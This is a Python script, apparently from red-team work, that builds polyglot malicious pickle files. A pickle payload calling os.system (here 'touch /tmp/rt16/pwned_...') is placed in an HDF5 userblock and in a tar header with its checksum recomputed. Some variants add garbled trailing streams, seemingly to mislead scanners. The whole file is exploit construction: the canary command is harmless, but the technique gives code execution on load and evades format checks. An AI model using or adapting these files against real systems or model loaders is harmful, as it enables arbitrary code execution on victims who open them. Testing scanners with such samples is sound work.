import tarfile, io
def payload(name):
    return b"cos\nsystem\n(S'touch /tmp/rt16/pwned_%s'\ntR." % name.encode()
garble = b"cfoo-bar\nbaz\n."   # second stream: a garbled import the loader never reaches
h5 = bytearray(open("/tmp/rt15/fn_h5_userblock.pkl","rb").read())
for tag, extra in [("h5_ctrl", b""), ("h5_garble2", garble)]:
    b = bytearray(h5); p = payload(tag) + extra
    b[:512] = p + b"\0"*(512-len(p))
    open(f"fn_{tag}.pkl","wb").write(b)
# tar
def tarpoly(tag, extra):
    p = payload(tag) + extra
    assert len(p) < 100, len(p)
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as t:
        ti = tarfile.TarInfo("x"*10); data=b"hello"; ti.size=len(data)
        t.addfile(ti, io.BytesIO(data))
    b = bytearray(bio.getvalue())
    b[:100] = p + b"\0"*(100-len(p))
    b[148:156] = b" "*8
    cs = sum(b[:512]); b[148:156] = b"%06o\0 " % cs
    open(f"fn_{tag}.pkl","wb").write(b)
tarpoly("tar_ctrl", b"")
tarpoly("tar_g2", b"cx-\ny\n.")
